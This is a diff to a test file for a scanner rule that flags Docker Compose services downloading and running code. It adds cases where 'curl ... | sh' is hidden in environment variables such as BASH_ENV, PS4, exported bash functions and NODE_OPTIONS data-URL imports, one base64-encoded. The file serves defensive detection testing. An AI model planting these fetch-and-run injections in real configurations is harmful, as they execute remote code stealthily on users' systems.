@@ -148,6 +148,17 @@ describe('command-downloads-code', () => {
     ['healthcheck: { test: "curl https://get.example.com | sh" }', 'high'],
     ['post_start: [{ command: ["sh", "-c", "curl https://get.example.com | sh"] }]', 'high'],
     ['environment: { PROMPT_COMMAND: "curl https://get.example.com | sh" }', 'high'],
+    ['environment: { BASH_ENV: "$$(curl https://get.example.com | sh)" }', 'high'],
+    ['environment: ["PS4=+ $$(curl https://get.example.com | sh) "]', 'high'],
+    ['environment: { "BASH_FUNC_ls%%": "() { curl https://get.example.com | sh; }" }', 'high'],
+    [
+      `environment: { NODE_OPTIONS: "--import=data:text/javascript,import('child_process').then(c=>c.execSync('curl https://get.example.com | sh'))" }`,
+      'high',
+    ],
+    [
+      `environment: { NODE_OPTIONS: "--import=data:text/javascript;base64,${Buffer.from(`import{execSync}from'child_process';execSync('curl https://get.example.com | sh')`).toString('base64')}" }`,
+      'high',
+    ],
   ])('%s is %s', (options, severity) =>
     expect(checkText(rule, 'compose.yaml', service(options)).findings.map((finding) => finding.severity)).toEqual([
       severity,
